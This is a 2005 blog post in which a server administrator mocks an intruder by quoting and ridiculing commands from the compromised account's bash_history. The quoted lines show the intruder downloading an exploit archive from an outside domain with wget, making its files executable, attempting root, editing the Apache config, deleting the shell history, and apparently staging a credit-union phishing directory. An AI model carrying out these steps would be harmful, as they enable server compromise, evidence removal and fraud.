Wanna see this logo while booting your 2.6 kernel? Click here!

27.06.2005 11:43

Hacked by a fool

After everything is in OK state finally, I want to post some things about this fool who hacked my server.
The bash_history of the hacked user shows me, that this guy reallyhad no idea of what to do, a typical script kiddie using someone else's work for his evil purposes...

I want to post some snippets out of the bash_history file and comment them just for your amusement :)
wget wget great-shopper-sony.com/asul/expl.tgz
tar -xvzf expl.tgz
cd su
chmod +x x
chmod +x y
su root
If it was that easy to become root...
tar -xvzf hu.tar
Well, .tar seems definetly to be gzipped...
pico /etc/apache-ssl/httpd.conf
l33t hackers use pico, because their intellect is insufficient to use a real editor.
cat httpd.conf.old | grep luck
A very beautiful example of an UUOC (useless use of cat).
cd .secure
rm -rf bash_history
Yes, that worked flawlessly. I'm not able to see the history anymore, bummer.
mc, nice. Using midnight commander definetly identifies you as the best hacker all around. The next time you're coming around I'll try to get you a linux compatible version of explorer.exe.
Great, now the history is really cleared, isn't it?
What is this, MS-DOS??
mkdir secure
cd secure/
mkdircreditunion
cd creditunion/
mkdir update
cd update/
mkdir user
cd user/
There's no way doing this more unergonomically. Dear l33t hacker, if you read this, try 'man mkdir' and have a look at the -p option.
Phew, thanks god he didn't issue 'pwd' a two times more, this would have launched the selfdestruct mechanism!
On theotherhand, who really knows if the directory doesn't change silently when using'pwd', hm?
Bye, bye, bummer.